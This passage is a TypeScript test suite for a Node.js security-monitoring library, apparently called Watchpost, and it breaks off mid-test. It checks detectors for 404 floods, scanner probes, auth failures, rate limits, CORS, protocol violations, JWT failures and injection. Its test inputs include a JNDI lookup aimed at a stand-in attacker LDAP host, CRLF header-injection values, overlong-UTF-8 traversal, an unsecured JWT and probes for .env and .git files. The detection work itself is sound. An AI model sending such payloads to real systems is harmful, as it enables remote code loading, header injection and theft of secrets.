import assert from 'node:assert/strict'
import { createSecretKey } from 'node:crypto'
import { once } from 'node:events'
import http, { type IncomingMessage } from 'node:http'
import net from 'node:net'
import { describe, test } from 'node:test'
import { SignJWT, UnsecuredJWT } from 'jose'
import { classifyBodyError } from '../src/detection/body-errors.js'
import { refusedByParser } from '../src/detection/client-error.js'
import { headerViolation, pathViolation } from '../src/detectors/protocol.js'
import { isScannerPath } from '../src/detectors/scanner-paths.js'
import { createWatchpost, type SecurityEvent } from '../src/index.js'
import { tokenAlgorithm } from '../src/jwt/header.js'
import { createAdapterCore } from '../src/sdk.js'
import { clientHangUps, hangUp } from '../src/testing.js'
import { fakeContext } from './support/fake-context.js'
import { type Handler, harness, statusFromQuery } from './support/harness.js'

const get = (url: string, headers: Record<string, string> = {}) =>
  fetch(url, { headers }).then((r) => r.status)

/** Sends raw bytes and returns what the server answered (until it closes the connection). */
function raw(url: string, request: string): Promise<string> {
  const { port } = new URL(url)
  return new Promise((resolve, reject) => {
    const socket = net.connect(Number(port), '127.0.0.1', () => socket.write(request))
    let data = ''
    socket.on('data', (chunk) => {
      data += chunk.toString('latin1')
    })
    socket.on('close', () => resolve(data))
    socket.on('error', reject)
    socket.setTimeout(5000, () => socket.destroy(new Error('timeout')))
  })
}

/**
 * On one keep-alive connection: a request the server answers, then `next` (followed by the client's
 * FIN when `end`); returns what the server sent after its first answer, until it closed.
 */
async function afterAnswer(url: string, next: string, end = false): Promise<string> {
  const socket = net.connect(Number(new URL(url).port), '127.0.0.1')
  socket.setTimeout(5000, () => socket.destroy(new Error('timeout')))
  socket.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n')
  const [answer] = (await once(socket, 'data')) as [Buffer]
  assert.match(answer.toString('latin1'), /^HTTP\/1\.1 200 OK\r\n[\s\S]*\r\n\r\n$/, 'answered, no body')
  let data = ''
  socket.on('data', (chunk) => {
    data += chunk.toString('latin1')
  })
  socket.write(next)
  if (end) socket.end()
  await once(socket, 'close')
  return data
}

describe('notFound detector', () => {
  test('a flood is reported at the threshold and its tail once when the window closes', async () => {
    const h = await harness({ detectors: { notFound: { threshold: 20 } } }, statusFromQuery)
    for (let i = 0; i < 25; i++) assert.equal(await get(`${h.url}/missing-${i}`), 404)
    let floods = await h.of('malicious_excess_404')
    assert.equal(floods.length, 1, 'one event at the crossing, not one per 404')
    assert.equal(floods[0]?.EventCount, 20)
    assert.equal(floods[0]?.SrcIpAddr, '127.0.0.1')
    assert.equal(floods[0]?.EventResultDetails, '404')
    assert.equal(floods[0]?.RuleName, 'notFound')
    assert.deepEqual((floods[0]?.AdditionalFields?.SamplePaths as string[] | undefined)?.slice(0, 2), [
      '/missing-0',
      '/missing-1',
    ])
    assert.equal(await h.of('access_not_found').then((e) => e.length), 0, 'reportEach is off by default')
    await h.close() // closes the window: the 5 misses after the crossing are reported once
    floods = h.events.filter((e) => e.EventOriginalType === 'malicious_excess_404')
    assert.equal(floods.length, 2)
    assert.equal(floods[1]?.EventCount, 5)
    assert.equal(
      floods.reduce((n, e) => n + e.EventCount, 0),
      25,
      'EventCount sums to the real number of misses',
    )
  })

  test('scanner paths are reported at once and raise the flood risk', async () => {
    const h = await harness({ detectors: { notFound: { threshold: 3 } } }, statusFromQuery)
    await get(`${h.url}/.env`)
    await get(`${h.url}/.git/config`)
    await get(`${h.url}/nothing-here`)
    const probes = await h.of('access_not_found')
    assert.deepEqual(
      probes.map((e) => [e.AdditionalFields?.Path, e.AdditionalFields?.ScannerProbe, e.EventSeverity]),
      [
        ['/.env', true, 'Medium'],
        ['/.git/config', true, 'Medium'],
      ],
    )
    const [flood] = await h.of('malicious_excess_404')
    assert.equal(flood?.ThreatRiskLevel, 70)
    assert.equal(flood?.AdditionalFields?.ScannerPaths, 2)
    await h.close()
  })

  test('a path answered before is judged again on a 404, and a probe on every answer', async () => {
    const h = await harness({}, statusFromQuery)
    // `*.php` counts only on a 404 (an app that answers it serves it on purpose).
    assert.equal(await get(`${h.url}/index.php?status=200`), 200)
    assert.equal(await get(`${h.url}/index.php?status=200`), 200)
    assert.equal(await get(`${h.url}/index.php?status=404`), 404)
    for (let i = 0; i < 3; i++) assert.equal(await get(`${h.url}/.env?status=200`), 200)
    const notFound = await h.of('access_not_found')
    assert.deepEqual(
      notFound.map((e) => [e.AdditionalFields?.Path, e.AdditionalFields?.ScannerProbe]),
      [['/index.php', true]],
    )
    const probes = await h.of('malicious_scanner_probe')
    assert.deepEqual(
      probes.map((e) => e.AdditionalFields?.Path),
      ['/.env', '/.env', '/.env'],
    )
    await h.close()
  })

  test('requestStart runs once per request, however often an adapter signals it', async () => {
    const events: SecurityEvent[] = []
    const { watchpost: wp, signals } = createAdapterCore(
      { config: false, sinks: [] },
      { sinks: [{ name: 'm', send: async (b) => void events.push(...b), close: async () => {} }] },
    )
    const ctx = fakeContext({ method: 'TRACE' })
    signals.requestStart(ctx)
    signals.requestStart(ctx)
    signals.requestStart(fakeContext({ method: 'TRACE' }))
    await wp.close()
    assert.equal(events.filter((e) => e.EventOriginalType === 'malicious_unexpected_method').length, 2)
  })

  test('100,000 misses from one source make at most 2 rows (and reportEach stays capped)', async () => {
    const events: SecurityEvent[] = []
    const { watchpost: wp, signals } = createAdapterCore(
      {
        config: false,
        sinks: [],
        detectors: { notFound: { reportEach: true } },
        queue: { maxEvents: 1_000_000 },
      },
      { sinks: [{ name: 'm', send: async (b) => void events.push(...b), close: async () => {} }] },
    )
    const res = { statusCode: 404, getHeader: () => undefined }
    for (let i = 0; i < 100_000; i++) signals.responseFinish(fakeContext({ url: `/x${i}` }), res)
    await wp.close()
    const floods = events.filter((e) => e.EventOriginalType === 'malicious_excess_404')
    const each = events.filter((e) => e.EventOriginalType === 'access_not_found')
    assert.equal(floods.length, 2)
    assert.equal(
      floods.reduce((n, e) => n + e.EventCount, 0),
      100_000,
    )
    assert.equal(each.length, 11, '10 individual + 1 aggregate')
    assert.equal(
      each.reduce((n, e) => n + e.EventCount, 0),
      100_000,
    )
  })

  test('scanner path heuristics', () => {
    for (const p of [
      '/.env',
      '/.env.production',
      '/.git/config',
      '/wp-admin/',
      '/backup.zip',
      '/index.php',
      '/db.sql',
      '/a/b.bak',
    ])
      assert.ok(isScannerPath(p), p)
    for (const p of ['/', '/users/42', '/api/orders', '/environment', '/gitlab'])
      assert.ok(!isScannerPath(p), p)
  })
})

describe('authFailure detector', () => {
  test('401/403 are reported per request up to the threshold, the rest of the burst once', async () => {
    const h = await harness({ detectors: { authFailure: { threshold: 3 } } }, statusFromQuery)
    for (let i = 0; i < 5; i++) await get(`${h.url}/account?status=401`)
    await get(`${h.url}/admin?status=403`)
    assert.equal((await h.of('authn_unauthorized')).length, 3)
    const [denied] = await h.of('authz_fail')
    assert.equal(denied?.HttpStatusCode, 403)
    assert.equal(denied?.DvcAction, 'Deny')
    assert.equal(denied?.EventSeverity, 'Medium', 'an inferred 403 does not page (the vocabulary says High)')
    await h.close()
    const unauthorized = h.events.filter((e) => e.EventOriginalType === 'authn_unauthorized')
    assert.equal(unauthorized.length, 4)
    assert.equal(unauthorized[3]?.EventCount, 2, 'the aggregate carries the rest of the burst')
    assert.equal(unauthorized[3]?.SrcIpAddr, '127.0.0.1')
  })

  test('a 403 burst is aggregated at Medium; an authz_fail the app records keeps High', async () => {
    const h = await harness({ detectors: { authFailure: { threshold: 1 } } }, (req, res) => {
      if (req.url === '/recorded') h.wp.request(req).authz.fail({ userId: 'bob', resource: 'invoices' })
      res.statusCode = 403
      res.end()
    })
    for (let i = 0; i < 3; i++) await get(`${h.url}/admin`)
    await get(`${h.url}/recorded`)
    await h.close()
    const denied = h.events.filter((e) => e.EventOriginalType === 'authz_fail')
    const recorded = denied.find((e) => e.ActorUsername !== undefined)
    assert.equal(recorded?.EventSeverity, 'High')
    const aggregate = denied.find((e) => (e.EventCount ?? 1) > 1)
    assert.equal(aggregate?.EventSeverity, 'Medium')
  })

  test('a 401 the app already recorded (a failed login) is not reported twice', async () => {
    const h = await harness({}, (req, res) => {
      h.wp.request(req).authn.loginFail({ userId: 'bob', reason: 'bad_password' })
      res.statusCode = 401
      res.end()
    })
    await get(`${h.url}/login`)
    assert.equal((await h.of('authn_login_fail')).length, 1)
    assert.equal((await h.of('authn_unauthorized')).length, 0)
    await h.close()
  })
})

describe('rateLimit detector', () => {
  test('a 429 is reported; the limiter hook and the inference never double-report', async () => {
    const h = await harness({}, (req, res, ctx) => {
      if (req.url === '/hooked') h.signals.rateLimitHit(ctx, { max: 5, windowSeconds: 60, banned: true })
      res.statusCode = 429
      res.end()
    })
    await get(`${h.url}/plain`)
    await get(`${h.url}/hooked`)
    const events = await h.of('excess_rate_limit_exceeded')
    assert.equal(events.length, 2)
    assert.equal(events[0]?.HttpStatusCode, 429)
    assert.deepEqual(events[1]?.AdditionalFields, { Max: 5, WindowSeconds: 60, Banned: true })
    assert.equal(events[1]?.EventSeverity, 'High', 'a ban is High')
    await h.close()
  })
  test("a hook's hit without the limit takes it from the response headers; a ban on top is the same event", async () => {
    const h = await harness({}, (_req, res, ctx) => {
      // @fastify/rate-limit's order: onExceeded, its headers, onBanReach, then the 403.
      h.signals.rateLimitHit(ctx, {})
      res.setHeader('x-ratelimit-limit', 5)
      res.setHeader('retry-after', 17)
      h.signals.rateLimitHit(ctx, { banned: true })
      res.statusCode = 403
      res.end()
    })
    await get(`${h.url}/login`)
    const events = await h.of('excess_rate_limit_exceeded')
    assert.deepEqual(
      events.map((e) => [e.AdditionalFields, e.EventMessage]),
      [[{ Max: 5, Banned: true }, 'Rate limit of 5 exceeded']],
      'Retry-After is the time left, not the window',
    )
    assert.equal((await h.of('authz_fail')).length, 0, 'the ban 403 is not an authorization failure')
    await h.close()
  })

  test('a hit whose response is never sent is still reported', async () => {
    const h = await harness({}, (_req, res, ctx) => {
      h.signals.rateLimitHit(ctx, { max: 3 })
      res.destroy()
    })
    await get(`${h.url}/gone`).catch(() => undefined)
    assert.equal((await h.of('excess_rate_limit_exceeded')).length, 0, 'waiting for the response headers')
    h.signals.sweep(Date.now() + 60_000)
    const [event] = await h.of('excess_rate_limit_exceeded')
    assert.deepEqual(event?.AdditionalFields, { Max: 3 })
    await h.close()
  })
})

describe('cors detector', () => {
  test('an app without a CORS policy gets no CORS events: cross-origin requests are ordinary traffic', async () => {
    const h = await harness({}, (_req, res) => res.end())
    await get(`${h.url}/api`, { origin: 'https://other.example' })
    await fetch(`${h.url}/api`, {
      method: 'OPTIONS',
      headers: { origin: 'https://other.example', 'access-control-request-method': 'DELETE' },
    })
    assert.deepEqual(await h.of('malicious_cors'), [])
    await h.close()
  })

  test('with allowedOrigins, another origin the response does not grant is reported from the first request', async () => {
    const h = await harness(
      { detectors: { cors: { allowedOrigins: ['https://good.example'] } } },
      (_req, res) => res.end(),
    )
    await get(`${h.url}/api`, { origin: 'https://good.example' })
    await get(`${h.url}/api`, { origin: 'https://evil.example' })
    assert.deepEqual(
      (await h.of('malicious_cors')).map((e) => e.AdditionalFields?.Origin),
      ['https://evil.example'],
    )
    await h.close()
  })

  test('once the app granted a cross-origin request, a foreign Origin it does not grant is reported', async () => {
    const h = await harness({}, (req, res) => {
      if (req.url === '/granted') res.setHeader('access-control-allow-origin', 'https://good.example')
      res.end()
    })
    await get(`${h.url}/granted`, { origin: 'https://good.example' })
    await get(`${h.url}/api`, { origin: 'https://evil.example' })
    await get(`${h.url}/api`, { origin: `${h.url}` }) // same origin (browsers send it on POST)
    await get(`${h.url}/api`) // no Origin: not a browser cross-origin request
    await fetch(`${h.url}/api`, {
      method: 'OPTIONS',
      headers: { origin: 'https://evil.example', 'access-control-request-method': 'DELETE' },
    })
    const events = await h.of('malicious_cors')
    assert.deepEqual(
      events.map((e) => [e.AdditionalFields?.Origin, e.AdditionalFields?.Preflight]),
      [
        ['https://evil.example', false],
        ['https://evil.example', true],
      ],
    )
    await h.close()
  })

  test('an origin check that refuses (the cors wrapper) reports once per request, never a same-origin one', async () => {
    const h = await harness({}, (req, res, ctx) => {
      h.signals.corsCheck(ctx, { origin: req.headers.origin ?? '', allowed: false })
      res.end()
    })
    await get(`${h.url}/api`, { origin: 'https://evil.example' })
    await get(`${h.url}/api`, { origin: h.url })
    assert.equal((await h.of('malicious_cors')).length, 1)
    await h.close()
  })
})

describe('malformedBody detector', () => {
  test('parser errors are classified by code and reported', async () => {
    const h = await harness({}, (req, res, ctx) => {
      const code = new URL(req.url ?? '/', 'http://x').searchParams.get('code') ?? ''
      const err = code.includes('.') ? { type: code } : { code }
      res.statusCode = h.signals.bodyError(ctx, err) ? 400 : 500
      res.end()
    })
    assert.equal(await get(`${h.url}/?code=FST_ERR_CTP_INVALID_JSON_BODY`), 400)
    assert.equal(await get(`${h.url}/?code=entity.too.large`), 400)
    assert.equal(await get(`${h.url}/?code=ECONNRESET`), 500, 'not a body error')
    const events = await h.of('input_validation_malformed_body')
    assert.deepEqual(
      events.map((e) => [e.EventOriginalResultDetails, e.AdditionalFields?.ErrorCode]),
      [
        ['invalid_json', 'FST_ERR_CTP_INVALID_JSON_BODY'],
        ['too_large', 'entity.too.large'],
      ],
    )
    await h.close()
  })

  test('classification never reaches the prototype', () => {
    assert.equal(classifyBodyError({ code: 'constructor' }), undefined)
    assert.equal(classifyBodyError({ type: '__proto__' }), undefined)
    assert.equal(classifyBodyError(null), undefined)
    assert.deepEqual(classifyBodyError({ type: 'charset.unsupported' }), {
      reason: 'bad_charset',
      code: 'charset.unsupported',
    })
  })

  test('an upload the client aborted is not a malformed body', () => {
    // raw-body's error (body-parser, Express) and Node's, as Fastify's parser passes it on.
    assert.equal(classifyBodyError({ type: 'request.aborted', code: 'ECONNABORTED', status: 400 }), undefined)
    assert.equal(classifyBodyError(Object.assign(new Error('aborted'), { code: 'ECONNRESET' })), undefined)
  })
})

describe('protocol detector', () => {
  test('unexpected methods and encoded control characters are reported', async () => {
    const h = await harness({}, (_req, res) => res.end())
    await fetch(`${h.url}/x`, { method: 'PROPFIND' })
    await raw(h.url, 'GET /files/a%00.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')
    await raw(h.url, 'GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n')
    assert.deepEqual(
      (await h.of('malicious_unexpected_method')).map((e) => e.HttpRequestMethod),
      ['PROPFIND'],
    )
    assert.deepEqual(
      (await h.of('malicious_protocol_violation')).map((e) => [e.EventOriginalResultDetails, e.ThreatField]),
      [
        ['null_byte_in_path', undefined],
        ['duplicate_header', 'host'],
      ],
    )
    await h.close()
  })

  test("requests Node's parser refuses are recorded, and the client gets exactly Node's answer", async () => {
    const bare = await import('node:http').then((http) => http.createServer((_q, s) => s.end()))
    await new Promise<void>((r) => bare.listen(0, '127.0.0.1', r))
    const bareUrl = `http://127.0.0.1:${(bare.address() as net.AddressInfo).port}`
    const h = await harness({}, (_req, res) => res.end())
    for (const request of ['TRACK / HTTP/1.1\r\nHost: x\r\n\r\n', 'GET /\x01 HTTP/1.1\r\nHost: x\r\n\r\n']) {
      assert.equal(await raw(h.url, request), await raw(bareUrl, request))
    }
    bare.close()
    const [method] = await h.of('malicious_unexpected_method')
    assert.equal(method?.HttpRequestMethod, 'TRACK')
    assert.equal(method?.SrcIpAddr, '127.0.0.1')
    const [parse] = await h.of('malicious_protocol_violation')
    assert.equal(parse?.EventOriginalResultDetails, 'parse_error')
    assert.match(String(parse?.AdditionalFields?.ErrorCode), /^HPE_/)
    await h.close()
  })

  test('a refused request is recorded with what its raw bytes still tell: target, request id, forwarded client, status', async () => {
    const h = await harness({ trustProxy: 'loopback' }, (_req, res) => res.end())
    const overflow = 'x'.repeat(20_000)
    await raw(
      h.url,
      `GET /search?q=%0d%0a HTTP/1.1\r\nHost: x\r\nX-Request-Id: probe-42\r\nX-Forwarded-For: 203.0.113.7\r\nX-Big: ${overflow}\r\n\r\n`,
    )
    await raw(
      h.url,
      'GET /a\x01b HTTP/1.1\r\nHost: x\r\ntraceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\r\n\r\n',
    )
    const events = await h.of('malicious_protocol_violation')
    assert.deepEqual(
      events.map((e) => [e.CorrelationId, e.SrcIpAddr, e.HttpStatusCode, e.AdditionalFields?.ErrorCode]),
      [
        ['probe-42', '203.0.113.7', 431, 'HPE_HEADER_OVERFLOW'],
        ['4bf92f3577b34da6a3ce929d0e0e4736', '127.0.0.1', 400, 'HPE_INVALID_URL'],
      ],
    )
    assert.equal(events[0]?.Url, '/search?q=%0d%0a')
    assert.ok(
      !JSON.stringify(events).includes(overflow.slice(0, 300)),
      'the oversized header is not recorded',
    )
    await h.close()
  })

  test('only the parser refusing what the client sent is a violation: not resets, timeouts, cut requests', async () => {
    const refused = ['HPE_INVALID_METHOD', 'HPE_INVALID_HEADER_TOKEN', 'HPE_HEADER_OVERFLOW']
    refused.push('HPE_CHUNK_EXTENSIONS_OVERFLOW', 'HPE_UNEXPECTED_CONTENT_LENGTH', 'HPE_INVALID_URL')
    for (const code of refused) assert.equal(refusedByParser(code), true, code)
    const gone = ['ECONNRESET', 'EPIPE', 'ETIMEDOUT', 'ECONNABORTED', 'ERR_HTTP_REQUEST_TIMEOUT']
    gone.push('HPE_INVALID_EOF_STATE', 'hpe_invalid_method', '')
    for (const code of [...gone, undefined]) assert.equal(refusedByParser(code), false, String(code))
    const h = await harness({}, (_req, res) => res.end())
    for (const code of [...gone, undefined, 'HPE_INVALID_HEADER_TOKEN'])
      h.signals.clientError({
        code,
        remoteAddress: '127.0.0.1',
        remotePort: 1,
        method: 'GET',
        target: '/',
        headers: {},
        status: 400,
      })
    assert.deepEqual(
      (await h.of('malicious_protocol_violation')).map((e) => e.AdditionalFields?.ErrorCode),
      ['HPE_INVALID_HEADER_TOKEN'],
    )
    assert.equal(h.events.length, 1)
    await h.close()
  })

  test("Node's answer on a keep-alive connection: 400 to a refused request, 408 on a timeout, 400 to a cut one", async () => {
    const options = { headersTimeout: 200, requestTimeout: 200, connectionsCheckingInterval: 20 }
    const bare = http.createServer(options, (_q, s) => s.end())
    await new Promise<void>((r) => bare.listen(0, '127.0.0.1', r))
    const bareUrl = `http://127.0.0.1:${(bare.address() as net.AddressInfo).port}`
    const h = await harness({}, (_req, res) => res.end(), options)
    for (const [next, end, status] of [
      ['TRACK / HTTP/1.1\r\nHost: x\r\n\r\n', false, '400 Bad Request'],
      ['GET / HTTP/1.1\r\n', false, '408 Request Timeout'], // never completed: headersTimeout
      ['GET / HTTP/1.1\r\nHost: x\r\n', true, '400 Bad Request'], // FIN mid-headers: HPE_INVALID_EOF_STATE
    ] as const) {
      const answer = await afterAnswer(bareUrl, next, end)
      assert.equal(answer, `HTTP/1.1 ${status}\r\nConnection: close\r\n\r\n`, 'what Node answers')
      assert.equal(await afterAnswer(h.url, next, end), answer, JSON.stringify(next))
    }
    bare.close()
    assert.deepEqual(
      (await h.of('malicious_unexpected_method')).map((e) => e.HttpRequestMethod),
      ['TRACK'],
    )
    assert.equal(h.events.length, 1, 'a timeout or a cut request is no violation')
    await h.close()
  })

  test('clients that hang up record nothing (@watchpost/core/testing)', async () => {
    const h = await harness({}, (req, res) => {
      if (req.url === '/late') {
        req.on('close', () => {
          res.statusCode = 401
          res.end()
        })
      } else req.resume().on('end', () => res.end())
    })
    for (const hang of clientHangUps({ get: '/', post: '/', late: '/late' })) {
      await hangUp(h.server, hang)
      await h.wp.flush()
      assert.deepEqual(
        h.events.map((e) => [e.EventOriginalType, e.AdditionalFields?.ErrorCode]),
        [],
        hang.name,
      )
    }
    await h.close()
  })

  test('path and header checks', () => {
    assert.equal(pathViolation('/a%0d%0aSet-Cookie:x'), 'control_char_in_path')
    assert.equal(pathViolation('/a%0A'), 'control_char_in_path')
    assert.equal(pathViolation('/a%2F%0'), undefined)
    assert.equal(pathViolation('/ok?q=%20'), undefined)
    assert.deepEqual(headerViolation(['Content-Length', '1', 'content-length', '2']), {
      reason: 'duplicate_header',
      name: 'content-length',
    })
    assert.equal(headerViolation(['Accept', 'a', 'Accept', 'b']), undefined, 'list headers may repeat')
    assert.deepEqual(headerViolation(['HOST', 'a', 'x-request-id', '1', 'Host', 'b']), {
      reason: 'duplicate_header',
      name: 'host',
    })
    // Same lengths as content-type / authorization / transfer-encoding, but not singletons.
    assert.equal(
      headerViolation(['X-Request-Id', '1', 'x-request-id', '2', 'Cache-Control', 'a', 'cache-control', 'b']),
      undefined,
    )
    assert.equal(headerViolation(['If-Modified-Since', 'a', 'if-modified-since', 'b']), undefined)
    for (const name of ['Authorization', 'Content-Type', 'Transfer-Encoding'])
      assert.equal(headerViolation([name, 'a', name.toUpperCase(), 'b'])?.name, name.toLowerCase())
    assert.equal(headerViolation(['X-Big', 'x'.repeat(9000)])?.reason, 'oversized_header')
  })
})

describe('JWT verification', () => {
  const secret = new TextEncoder().encode('0123456789abcdef0123456789abcdef')
  const sign = (claims: Record<string, unknown>, exp: string | number = '5m') =>
    new SignJWT(claims)
      .setProtectedHeader({ alg: 'HS256' })
      .setIssuedAt()
      .setExpirationTime(exp)
      .setAudience('shop')
      .sign(secret)

  test('each failure is recorded with its reason; the token never is', async () => {
    const tokens: string[] = []
    const h = await harness({}, async (req, res) => {
      try {
        await verify(req)
        res.statusCode = 200
      } catch {
        res.statusCode = 401
      }
      res.end()
    })
    const verify = h.wp.createJwtVerifier({
      algorithms: ['HS256'],
      key: createSecretKey(secret),
      audience: 'shop',
    })
    const send = async (token?: string) => {
      if (token !== undefined) tokens.push(token)
      return get(`${h.url}/me`, token === undefined ? {} : { authorization: `Bearer ${token}` })
    }
    assert.equal(await send(await sign({ sub: 'alice' })), 200)
    assert.equal(await send(await sign({ sub: 'alice' }, Math.floor(Date.now() / 1000) - 3600)), 401)
    const good = await sign({ sub: 'alice' })
    assert.equal(await send(`${good.slice(0, -2)}xx`), 401)
    assert.equal(await send(new UnsecuredJWT({ sub: 'alice' }).encode()), 401)
    assert.equal(await send('not.a.jwt'), 401)
    assert.equal(
      await send(
        await new SignJWT({}).setProtectedHeader({ alg: 'HS256' }).setAudience('other').sign(secret),
      ),
      401,
    )
    assert.equal(await send(), 401)
    const events = await h.of('authn_jwt_fail')
    assert.deepEqual(
      events.map((e) => [e.EventOriginalResultDetails, e.EventResultDetails, e.AdditionalFields?.Claim]),
      [
        ['expired', 'Session expired', undefined],
        ['bad_signature', 'Incorrect key', undefined],
        ['alg_not_allowed', 'Logon violates policy', undefined],
        ['malformed', 'Other', undefined],
        ['claim_invalid', 'Logon violates policy', 'aud'],
        ['missing', 'Other', undefined],
      ],
    )
    assert.equal(
      (await h.of('authn_unauthorized')).length,
      0,
      'the 401 after a JWT failure is the same failure',
    )
    const json = JSON.stringify(h.events)
    for (const token of tokens)
      for (const part of token.split('.')) if (part.length > 8) assert.ok(!json.includes(part))
    await h.close()
  })

  test("alg_not_allowed records the alg of the verified token's header, bounded and sanitised", async () => {
    const header = (h: unknown) => Buffer.from(JSON.stringify(h)).toString('base64url')
    const tokenWith = (h: unknown) => `${header(h)}.${header({ sub: 'alice' })}.c2ln`
    const given = new Map<string, string>([
      ['/rs', tokenWith({ alg: 'RS256' })],
      ['/junk', tokenWith({ alg: `HS256\u0000${'A'.repeat(100)}` })],
    ])
    const h = await harness({}, async (req, res) => {
      try {
        // Verified from elsewhere than the Authorization header, which holds another token.
        await verify(req, given.get(req.url ?? ''))
        res.statusCode = 200
      } catch {
        res.statusCode = 401
      }
      res.end()
    })
    const verify = h.wp.createJwtVerifier({ algorithms: ['HS256'], key: createSecretKey(secret) })
    const other = { authorization: `Bearer ${tokenWith({ alg: 'ES512' })}` }
    assert.equal(await get(`${h.url}/rs`, other), 401)
    assert.equal(await get(`${h.url}/junk`, other), 401)
    const events = await h.of('authn_jwt_fail')
    assert.deepEqual(
      events.map((e) => e.AdditionalFields?.Algorithm),
      ['RS256', `HS256?${'A'.repeat(26)}`],
    )
    await h.close()
  })

  test('the alg of a bearer token is read from its header only, and only when it is readable', () => {
    const part = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url')
    assert.equal(tokenAlgorithm(`${part({ alg: 'PS384' })}.x.y`), 'PS384')
    assert.equal(tokenAlgorithm(`${part({ alg: 'none' })}.${part({ alg: 'HS256' })}.`), 'none')
    assert.equal(tokenAlgorithm(`${part({ alg: 7 })}.x.y`), undefined, 'not a string')
    assert.equal(tokenAlgorithm(`${part({ alg: '' })}.x.y`), undefined, 'empty')
    assert.equal(tokenAlgorithm(`${part(['HS256'])}.x.y`), undefined, 'not an object')
    assert.equal(tokenAlgorithm(`${part({ typ: 'JWT' })}.x.y`), undefined, 'no alg')
    const proto = Buffer.from('{"__proto__":{"alg":"HS256"}}').toString('base64url')
    assert.equal(tokenAlgorithm(`${proto}.x.y`), undefined, 'never from a __proto__ key')
    assert.equal(tokenAlgorithm('bm90IGpzb24.x.y'), undefined, 'not JSON')
    assert.equal(tokenAlgorithm('no-dots-at-all'), undefined)
    assert.equal(
      tokenAlgorithm(`${part({ alg: 'HS256', pad: 'x'.repeat(2000) })}.x.y`),
      undefined,
      'too long',
    )
  })

  test('a secret given as bytes is read once, when the verifier is made', async () => {
    const wp = createWatchpost({ config: false, sinks: [] })
    const bytes = Uint8Array.from(secret)
    const verify = wp.createJwtVerifier({ algorithms: ['HS256'], key: bytes, audience: 'shop' })
    const request = (token: string) =>
      ({ headers: { authorization: `Bearer ${token}` } }) as unknown as IncomingMessage
    const token = await sign({ sub: 'alice' })
    assert.equal((await verify(request(token))).sub, 'alice')
    bytes.fill(0)
    assert.equal((await verify(request(token))).sub, 'alice', 'the array changed after: nothing changes')
    const other = await new SignJWT({ sub: 'alice' })
      .setProtectedHeader({ alg: 'HS256' })
      .setAudience('shop')
      .sign(new Uint8Array(32))
    await assert.rejects(verify(request(other)), { code: 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED' })
    await wp.close()
  })

  test('the verifier refuses an allowlist with none or without algorithms', () => {
    const wp = createWatchpost({ config: false, sinks: [] })
    assert.throws(() => wp.createJwtVerifier({ algorithms: [], key: secret }), {
      name: 'WatchpostTypeError',
      code: 'ERR_WATCHPOST_JWT_OPTIONS_INVALID',
    })
    assert.throws(() => wp.createJwtVerifier({ algorithms: ['none'], key: secret }), {
      name: 'WatchpostTypeError',
      code: 'ERR_WATCHPOST_JWT_OPTIONS_INVALID',
    })
    void wp.close()
  })
})

describe('routes', () => {
  test('ignored routes record nothing; overrides apply to matching paths only', async () => {
    const h = await harness(
      {
        detectors: { notFound: { threshold: 50 } },
        routes: [
          { match: '/health', ignore: true },
          { match: '/admin/*', detectors: { notFound: { threshold: 2 } } },
        ],
      },
      statusFromQuery,
    )
    for (let i = 0; i < 3; i++) await get(`${h.url}/health?status=401`)
    await get(`${h.url}/admin/a`)
    await get(`${h.url}/admin/b/c`)
    await get(`${h.url}/other`)
    assert.equal((await h.of('authn_unauthorized')).length, 0)
    const floods = await h.of('malicious_excess_404')
    assert.equal(floods.length, 1)
    assert.equal(floods[0]?.EventCount, 2)
    await h.close()
  })
})

describe('injection detector', () => {
  /** A handler that parses a JSON body onto `req.body` and answers with `?status=` (200 by default). */
  const jsonApp: Handler = (req, res) => {
    const chunks: Buffer[] = []
    req.on('data', (chunk: Buffer) => chunks.push(chunk))
    req.on('end', () => {
      if (chunks.length > 0) (req as { body?: unknown }).body = JSON.parse(Buffer.concat(chunks).toString())
      res.statusCode = Number(new URL(req.url ?? '/', 'http://x').searchParams.get('status') ?? 200)
      res.end()
    })
  }
  const post = (url: string, body: unknown) =>
    fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })

  test('the input, the rule, whether the app took it; a value under a secret name is never recorded', async () => {
    const h = await harness({}, jsonApp)
    const lookup = `\${jndi:ldap://attacker.example/a}`
    await post(`${h.url}/login`, { username: 'alice', password: lookup })
    await post(`${h.url}/search?status=403`, { filter: { q: lookup } })
    const events = await h.of('malicious_jndi_injection')
    assert.deepEqual(
      events.map((e) => [e.ThreatField, e.EventResult, e.AdditionalFields?.Outcome, e.HttpStatusCode]),
      [
        ['body:password', 'Success', 'reached', 200],
        ['body:filter.q', 'Failure', 'refused', 403],
      ],
    )
    assert.equal(events[0]?.AdditionalFields?.MatchedFragment, '[REDACTED]')
    assert.match(String(events[1]?.AdditionalFields?.MatchedFragment), /jndi:ldap/)
    assert.match(String(events[0]?.RuleName), /^jndi\./)
    assert.ok(!JSON.stringify(events[0]).includes('attacker.example'), 'nothing of the password is recorded')
    await h.close()
  })

  test('a class switched off is not looked for; the detector switched off costs nothing', async () => {
    const lookup = `\${jndi:ldap://attacker.example/a}`
    const off = await harness({ detectors: { injection: { jndi: false } } }, jsonApp)
    await post(`${off.url}/x`, { q: lookup })
    assert.deepEqual(await off.of('malicious_jndi_injection'), [])
    await off.close()
    const disabled = await harness({ detectors: { injection: { enabled: false } } }, jsonApp)
    await post(`${disabled.url}/x`, { q: lookup })
    assert.deepEqual(await disabled.of('malicious_jndi_injection'), [])
    await disabled.close()
  })

  test('inputs encoded as no browser encodes are protocol violations, once per request', async () => {
    const h = await harness({}, jsonApp)
    // Encoded CR/LF in the target or a header (a cookie included) is the protocol detector's; in a
    // value that decodes to one before a header name, this one's.
    await fetch(`${h.url}/r`, { headers: { cookie: 'lang=en%0d%0aSet-Cookie:%20admin=1' } })
    await fetch(`${h.url}/r`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ next: '/home\r\nLocation: https://evil.example/' }),
    })
    await fetch(`${h.url}/s?q=%c0%ae%c0%ae%2f`)
    await fetch(`${h.url}/s?q=%u003cscript%u003e`)
    await fetch(`${h.url}/s?q=caf%C3%A9`) // valid UTF-8: nothing
